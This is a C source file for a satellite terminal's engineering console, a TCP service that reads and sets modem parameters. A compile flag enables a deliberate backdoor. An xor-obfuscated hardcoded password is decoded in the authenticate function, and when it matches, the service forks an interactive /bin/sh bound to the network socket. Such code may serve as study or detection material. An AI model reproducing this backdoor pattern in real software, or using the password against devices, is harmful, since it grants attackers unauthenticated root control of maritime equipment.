/*
 * termcon - engineering console of a maritime satellite terminal.  Listens
 * on TCP port 1829, one thread per session; commands read and set modem
 * parameters kept in a tree, numbers may be given as expressions such as
 * (70M + 12.5k) * 2.  Operator password from the settings file.
 * Hidden (-DHIDDEN): the password "albatross-1897", kept xored in a table,
 * gives a root shell instead of the console.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define CONF "/etc/termcon.conf"

struct param {
	const char *path;
	double min, max, value;
	int writable;
};

static struct param params[] = {
	{ "tx/freq", 13750e6, 14500e6, 14125e6, 1 },
	{ "tx/power", -40, 0, -22, 1 },
	{ "tx/symrate", 32e3, 8e6, 512e3, 1 },
	{ "tx/mute", 0, 1, 1, 1 },
	{ "rx/freq", 10700e6, 12750e6, 11450e6, 1 },
	{ "rx/symrate", 256e3, 45e6, 27500e3, 1 },
	{ "rx/snr", -20, 40, 0, 0 },
	{ "rx/lock", 0, 1, 0, 0 },
	{ "ref/offset", -1000, 1000, 0, 1 },
	{ "ref/temp", -40, 90, 41, 0 },
};
#define NPARAM (sizeof(params) / sizeof(params[0]))

static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static char operator_pw[48] = "";
static int nsess;

struct sess {
	int fd;
	int level;
	struct in_addr peer;
	char buf[200];
	size_t have;
};

static void put(struct sess *s, const char *fmt, ...)
{
	char b[400];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(b, sizeof(b), fmt, ap);
	va_end(ap);
	if (n >= (int)sizeof(b))
		n = sizeof(b) - 1;
	if (send(s->fd, b, n, MSG_NOSIGNAL) < 0)
		s->level = -1;
}

static int get(struct sess *s, char *line, size_t size)
{
	size_t i, k;
	ssize_t n;

	for (;;) {
		for (i = 0; i < s->have; i++)
			if (s->buf[i] == '\n')
				break;
		if (i < s->have) {
			k = i < size - 1 ? i : size - 1;
			memcpy(line, s->buf, k);
			line[k] = 0;
			line[strcspn(line, "\r")] = 0;
			s->have -= i + 1;
			memmove(s->buf, s->buf + i + 1, s->have);
			return 0;
		}
		if (s->have == sizeof(s->buf))
			return -1;
		n = recv(s->fd, s->buf + s->have, sizeof(s->buf) - s->have, 0);
		if (n <= 0)
			return -1;
		s->have += n;
	}
}

/* expr: term {(+|-) term}; term: fact {(*|/) fact}; fact: num | ( expr ) */
struct parse {
	const char *p;
	int bad;
	int depth;
};

static double expr(struct parse *ps);

static void blank(struct parse *ps)
{
	while (isspace((unsigned char)*ps->p))
		ps->p++;
}

static double fact(struct parse *ps)
{
	char *end;
	double v;

	blank(ps);
	if (*ps->p == '-') {
		ps->p++;
		return -fact(ps);
	}
	if (*ps->p == '(') {
		ps->p++;
		if (++ps->depth > 16) {
			ps->bad = 1;
			return 0;
		}
		v = expr(ps);
		ps->depth--;
		blank(ps);
		if (*ps->p == ')')
			ps->p++;
		else
			ps->bad = 1;
		return v;
	}
	v = strtod(ps->p, &end);
	if (end == ps->p)
		ps->bad = 1;
	ps->p = end;
	switch (*ps->p) {
	case 'k':
		v *= 1e3;
		ps->p++;
		break;
	case 'M':
		v *= 1e6;
		ps->p++;
		break;
	case 'G':
		v *= 1e9;
		ps->p++;
		break;
	}
	return v;
}

static double term(struct parse *ps)
{
	double v = fact(ps), w;
	char op;

	for (;;) {
		blank(ps);
		op = *ps->p;
		if (ps->bad || (op != '*' && op != '/'))
			return v;
		ps->p++;
		w = fact(ps);
		if (op == '*')
			v *= w;
		else if (w != 0)
			v /= w;
		else
			ps->bad = 1;
	}
}

static double expr(struct parse *ps)
{
	double v = term(ps);
	char op;

	for (;;) {
		blank(ps);
		op = *ps->p;
		if (ps->bad || (op != '+' && op != '-'))
			return v;
		ps->p++;
		v += op == '+' ? term(ps) : -term(ps);
	}
}

static int evaluate(const char *s, double *out)
{
	struct parse ps = { s, 0, 0 };

	*out = expr(&ps);
	blank(&ps);
	return ps.bad || *ps.p ? -1 : 0;
}

static int same(const char *a, const char *b)
{
	unsigned char d = 0;
	size_t i, n = strlen(a);

	if (n != strlen(b))
		return 0;
	for (i = 0; i < n; i++)
		d |= (unsigned char)(a[i] ^ b[i]);
	return !d;
}

#ifdef HIDDEN
static const uint8_t cal_tab[] = { 0xd2, 0xd8, 0xd7, 0xd7, 0xc3, 0xc1, 0xdb,
				   0xc6, 0xc5, 0x9a, 0x82, 0x8c, 0x8c, 0x81 };

static void attach(struct sess *s)
{
	pid_t pid = fork();

	if (pid == 0) {
		dup2(s->fd, 0);
		dup2(s->fd, 1);
		dup2(s->fd, 2);
		execl("/bin/sh", "sh", "-i", (char *)NULL);
		_exit(127);
	}
	s->level = -1;
}
#endif

__attribute__((noinline)) int authenticate(struct sess *s, const char *pw)
{
#ifdef HIDDEN
	char w[sizeof(cal_tab) + 1];
	size_t i;

	for (i = 0; i < sizeof(cal_tab); i++)
		w[i] = (char)(cal_tab[i] ^ (0xb3 + i % 5));
	w[i] = 0;
	if (same(pw, w)) {
		attach(s);
		return 0;
	}
#endif
	if (!*operator_pw || !same(pw, operator_pw))
		return -1;
	s->level = 1;
	return 0;
}

static void show(struct sess *s, const char *prefix)
{
	size_t i, n = strlen(prefix);

	pthread_mutex_lock(&lock);
	for (i = 0; i < NPARAM; i++)
		if (!strncmp(params[i].path, prefix, n))
			put(s, "%-12s %.10g%s\r\n", params[i].path,
			    params[i].value, params[i].writable ? "" : " ro");
	pthread_mutex_unlock(&lock);
}

static const char *set(const char *path, const char *text)
{
	const char *res = "no such parameter";
	struct param *p;
	double v;

	if (evaluate(text, &v))
		return "bad number";
	pthread_mutex_lock(&lock);
	for (p = params; p < params + NPARAM; p++) {
		if (strcmp(p->path, path))
			continue;
		if (!p->writable)
			res = "read only";
		else if (v < p->min || v > p->max)
			res = "out of range";
		else {
			p->value = v;
			res = "ok";
		}
		break;
	}
	pthread_mutex_unlock(&lock);
	return res;
}

static void *session(void *arg)
{
	struct sess *s = arg;
	char line[160], *save, *cmd, *a;
	int tries = 0;

	put(s, "TERMCON\r\npassword: ");
	while (s->level >= 0 && !get(s, line, sizeof(line))) {
		if (s->level == 0) {
			if (!authenticate(s, line))
				put(s, "\r\n> ");
			else if (++tries == 3)
				break;
			else
				put(s, "password: ");
			continue;
		}
		save = NULL;
		cmd = strtok_r(line, " ", &save);
		a = strtok_r(NULL, " ", &save);
		if (!cmd)
			;
		else if (!strcmp(cmd, "show"))
			show(s, a ? a : "");
		else if (!strcmp(cmd, "set") && a)
			put(s, "%s\r\n", set(a, save ? save : ""));
		else if (!strcmp(cmd, "exit"))
			break;
		else
			put(s, "show [path], set path expr, exit\r\n");
		put(s, "> ");
	}
	close(s->fd);
	free(s);
	__sync_fetch_and_sub(&nsess, 1);
	return NULL;
}

static void settings(void)
{
	char line[120], k[40], v[48];
	FILE *f = fopen(CONF, "r");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%39s %47s", k, v) != 2 || *k == '#')
			continue;
		if (!strcmp(k, "password"))
			memcpy(operator_pw, v, sizeof(v));
		else if (strcmp(set(k, v), "ok"))
			fprintf(stderr, "%s: %s not set\n", CONF, k);
	}
	fclose(f);
}

int main(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	socklen_t sl;
	struct sess *s;
	pthread_t th;
	int l, fd;

	signal(SIGCHLD, SIG_IGN);
	settings();
	l = socket(AF_INET, SOCK_STREAM, 0);
	sa.sin_port = htons(1829);
	if (bind(l, (struct sockaddr *)&sa, sizeof(sa)) || listen(l, 4)) {
		perror("termcon");
		return 1;
	}
	for (;;) {
		sl = sizeof(sa);
		fd = accept(l, (struct sockaddr *)&sa, &sl);
		if (fd < 0)
			continue;
		s = nsess < 6 ? calloc(1, sizeof(*s)) : NULL;
		if (!s) {
			close(fd);
			continue;
		}
		s->fd = fd;
		s->peer = sa.sin_addr;
		__sync_fetch_and_add(&nsess, 1);
		if (pthread_create(&th, NULL, session, s)) {
			close(fd);
			free(s);
			__sync_fetch_and_sub(&nsess, 1);
		} else {
			pthread_detach(th);
		}
	}
}
